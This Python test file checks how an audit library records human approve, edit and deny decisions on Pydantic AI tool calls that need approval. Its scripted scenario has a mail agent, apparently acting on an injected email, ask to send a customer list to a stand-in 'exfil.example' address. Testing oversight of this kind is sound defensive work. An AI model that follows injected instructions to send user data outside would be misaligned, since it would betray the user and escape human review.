"""Human decisions on Pydantic AI deferred tool calls, recorded as decisions.

A ``requires_approval=True`` tool pauses the run (``DeferredToolRequests``); the next run
resumes it with ``DeferredToolResults(approvals=...)``: ``True`` / ``ToolApproved()`` runs
the call as the model asked (``approved``), ``ToolApproved(override_args=...)`` runs it
with the human's arguments (``edited``), ``False`` / ``ToolDenied`` never runs it
(``denied``: a ``blocked`` span, no ``before_tool_call`` hook, so nothing is minted).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from pydantic_ai import (
    Agent,
    ApprovalRequired,
    DeferredToolRequests,
    DeferredToolResults,
    RunContext,
    ToolApproved,
    ToolDenied,
    UserError,
)
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart, ToolReturnPart
from pydantic_ai.models.function import AgentInfo

import agentaudit
from agentaudit.instrumentation import ToolCallInfo, add_before_tool_call
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.pydantic_ai._scripted import Script, mail_agent, prompt_hash, scripted

ASKED = {"to": "audit-team@exfil.example", "body": "customer list"}


@pytest.fixture
def hooked() -> Iterator[list[str]]:
    """The tools a ``before_tool_call`` hook (where a broker would mint) was asked about."""
    seen: list[str] = []

    def hook(info: ToolCallInfo) -> None:
        seen.append(info.tool)

    remove = add_before_tool_call(hook)
    yield seen
    remove()


def _pause(script: Script) -> tuple[Agent[Any, Any], Any]:
    """Run until send_email waits for approval."""
    agent = mail_agent(script, approval=True)
    first = agent.run_sync("Summarise my new email.")
    assert isinstance(first.output, DeferredToolRequests)
    assert [call.tool_call_id for call in first.output.approvals] == ["call_2"]
    return agent, first


def _resume(agent: Agent[Any, Any], first: Any, decision: Any) -> Any:
    return agent.run_sync(
        message_history=first.all_messages(),
        deferred_tool_results=DeferredToolResults(approvals={"call_2": decision}),
    )


def _returned(result: Any, call_id: str) -> ToolReturnPart:
    (part,) = [
        part
        for message in result.new_messages()
        for part in message.parts
        if isinstance(part, ToolReturnPart) and part.tool_call_id == call_id
    ]
    return part


def _arguments(attrs: dict[str, object]) -> Any:
    return json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS]))


@pytest.mark.parametrize("decision", [True, ToolApproved()], ids=["true", "ToolApproved"])
def test_an_approved_call_runs_as_asked_and_is_recorded_approved(
    spans: Spans, decision: Any
) -> None:
    script = Script()
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        agent, first = _pause(script)
        with agentaudit.approval("alice"):
            second = _resume(agent, first, decision)
    assert _returned(second, "call_2").content == "sent to audit-team@exfil.example"
    attrs = spans.attributes("send_email")
    assert attrs[A.APPROVAL_DECISION] == A.DECISION_APPROVED
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
    assert attrs[A.APPROVAL_APPROVER] == "alice"
    assert attrs[A.DECISION] == A.DECISION_ALLOWED
    assert _arguments(attrs) == ASKED
    assert attrs[A.PROMPT_HASH] == prompt_hash(script.seen[1])


@pytest.mark.parametrize(
    "decision",
    [False, ToolDenied(), ToolDenied("Not to outside addresses.")],
    ids=["false", "ToolDenied", "ToolDenied-message"],
)
def test_a_denied_call_never_runs_and_leaves_a_blocked_span(
    spans: Spans, hooked: list[str], decision: Any
) -> None:
    script = Script()
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        agent, first = _pause(script)
        with agentaudit.approval("alice"):
            second = _resume(agent, first, decision)
    assert second.output == "Done."
    denied = _returned(second, "call_2")
    assert denied.outcome == "denied"  # what the model was told instead of a result
    assert "sent to" not in str(denied.content)
    assert hooked == ["read_inbox"]  # no hook (no credential) for the denied call

    attrs = spans.attributes("send_email")
    assert attrs[A.DECISION] == A.DECISION_BLOCKED
    assert attrs[A.APPROVAL_DECISION] == A.DECISION_DENIED
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_NONE
    assert attrs[A.APPROVAL_APPROVER] == "alice"  # who denied it
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert attrs[A.FRAMEWORK] == "pydantic_ai"
    assert attrs[A.ENDUSER_ID] == "bob"
    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"
    assert _arguments(attrs) == ASKED  # what the model asked for
    assert A.RESULT_HASH not in attrs
    # still linked to the injected email whose prompt asked for it
    assert attrs[A.PROMPT_HASH] == prompt_hash(script.seen[1])
    assert "tool:read_inbox#call_1" in list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]


def test_a_denial_is_recorded_once_though_later_requests_resend_it(spans: Spans) -> None:
    script = Script()
    agent, first = _pause(script)
    second = _resume(agent, first, False)
    agent.run_sync("And now?", message_history=second.all_messages())
    assert len(script.seen) == 4  # two more requests carried the denial in their history
    assert len(spans.tools("send_email")) == 1


def test_edited_arguments_run_and_are_recorded_edited(spans: Spans, hooked: list[str]) -> None:
    script = Script()
    edited = {"to": "bob@corp.example", "body": "summary only"}
    agent, first = _pause(script)
    with agentaudit.approval("alice"):
        second = _resume(agent, first, ToolApproved(override_args=edited))
    assert _returned(second, "call_2").content == "sent to bob@corp.example"
    attrs = spans.attributes("send_email")
    assert attrs[A.APPROVAL_DECISION] == A.DECISION_EDITED
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
    assert attrs[A.APPROVAL_APPROVER] == "alice"
    assert _arguments(attrs) == edited  # the arguments that ran, not the model's
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert hooked == ["read_inbox", "send_email"]


def test_override_with_the_model_s_own_arguments_is_approved(spans: Spans) -> None:
    agent, first = _pause(Script())
    _resume(agent, first, ToolApproved(override_args=dict(ASKED)))
    attrs = spans.attributes("send_email")
    assert attrs[A.APPROVAL_DECISION] == A.DECISION_APPROVED
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN


def test_an_approval_value_pydantic_ai_cannot_read_never_counts_as_approved(
    spans: Spans, hooked: list[str]
) -> None:
    """Pydantic AI never runs a tool on such a value: 2.42+ rejects it (``UserError``);
    older releases hand the value itself to the model as the tool's result."""
    agent, first = _pause(Script())
    outcome: Any
    try:
        outcome = _resume(agent, first, "looks fine to me")
    except UserError as rejected:
        outcome = rejected
    if isinstance(outcome, UserError):
        assert "Invalid approval result" in str(outcome)
    else:
        assert _returned(outcome, "call_2").content == "looks fine to me"
    assert hooked == ["read_inbox"]
    assert spans.tools("send_email") == []  # nothing ran, nothing recorded as approved


def test_a_tool_that_asks_for_approval_itself_and_is_denied(spans: Spans) -> None:
    agent: Agent[Any, Any] = Agent(
        scripted(Script()), name="mail-bot", output_type=[str, DeferredToolRequests]
    )
    sent: list[str] = []

    @agent.tool_plain
    def read_inbox(folder: str) -> str:
        return "nothing new"

    @agent.tool
    def send_email(ctx: RunContext[Any], to: str, body: str) -> str:
        if not ctx.tool_call_approved:
            raise ApprovalRequired
        sent.append(to)
        return f"sent to {to}"

    first = agent.run_sync("Summarise my new email.")
    second = _resume(agent, first, ToolDenied("No."))
    assert second.output == "Done."
    assert sent == []
    asked, denied = spans.tools("send_email")
    assert (asked.attributes or {})[A.ERROR_TYPE] == "pydantic_ai.exceptions.ApprovalRequired"
    assert (denied.attributes or {})[A.APPROVAL_DECISION] == A.DECISION_DENIED
    assert (denied.attributes or {})[A.DECISION] == A.DECISION_BLOCKED


class TwoSends:
    """Asks for two send_email calls in one response, then answers."""

    async def __call__(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        if not any(message.kind == "response" for message in messages):
            return ModelResponse(
                parts=[
                    ToolCallPart("send_email", {"to": "a@corp.example", "body": "x"}, "call_a"),
                    ToolCallPart("send_email", {"to": "b@exfil.example", "body": "y"}, "call_b"),
                    ToolCallPart("send_email", {"to": "c@corp.example", "body": "z"}, "call_c"),
                ]
            )
        return ModelResponse(parts=[TextPart("Done.")])


def test_each_call_of_one_response_gets_its_own_decision(spans: Spans) -> None:
    agent: Agent[Any, Any] = Agent(
        scripted(TwoSends()), name="mail-bot", output_type=[str, DeferredToolRequests]
    )

    @agent.tool_plain(requires_approval=True)
    def send_email(to: str, body: str) -> str:
        return f"sent to {to}"

    first = agent.run_sync("Send the updates.")
    assert isinstance(first.output, DeferredToolRequests)
    second = agent.run_sync(
        message_history=first.all_messages(),
        deferred_tool_results=DeferredToolResults(
            approvals={
                "call_a": True,
                "call_b": ToolDenied("Not outside."),
                "call_c": ToolApproved(override_args={"to": "c@corp.example", "body": "z2"}),
            }
        ),
    )
    assert second.output == "Done."
    decisions = {
        (s.attributes or {})[A.GEN_AI_TOOL_CALL_ID]: (
            (s.attributes or {})[A.APPROVAL_DECISION],
            (s.attributes or {})[A.DECISION],
        )
        for s in spans.tools("send_email")
    }
    assert decisions == {
        "call_a": (A.DECISION_APPROVED, A.DECISION_ALLOWED),
        "call_b": (A.DECISION_DENIED, A.DECISION_BLOCKED),
        "call_c": (A.DECISION_EDITED, A.DECISION_ALLOWED),
    }


def test_decisions_of_an_in_run_handler_are_recorded_too(spans: Spans) -> None:
    """``HandleDeferredToolCalls`` answers the approvals inside the same run."""
    from pydantic_ai.capabilities import HandleDeferredToolCalls

    asked: list[str] = []

    def reviewer(ctx: Any, requests: DeferredToolRequests) -> DeferredToolResults:
        asked.extend(call.tool_call_id for call in requests.approvals)
        return DeferredToolResults(
            approvals={
                "call_a": ToolApproved(override_args={"to": "a@corp.example", "body": "x2"}),
                "call_b": False,
                "call_c": True,
            }
        )

    agent: Agent[Any, Any] = Agent(
        scripted(TwoSends()),
        name="mail-bot",
        capabilities=[HandleDeferredToolCalls(handler=reviewer)],
    )

    @agent.tool_plain(requires_approval=True)
    def send_email(to: str, body: str) -> str:
        return f"sent to {to}"

    assert agent.run_sync("Send the updates.").output == "Done."
    assert asked == ["call_a", "call_b", "call_c"]
    decisions = {
        (s.attributes or {})[A.GEN_AI_TOOL_CALL_ID]: (s.attributes or {})[A.APPROVAL_DECISION]
        for s in spans.tools("send_email")
    }
    assert decisions == {
        "call_a": A.DECISION_EDITED,
        "call_b": A.DECISION_DENIED,
        "call_c": A.DECISION_APPROVED,
    }
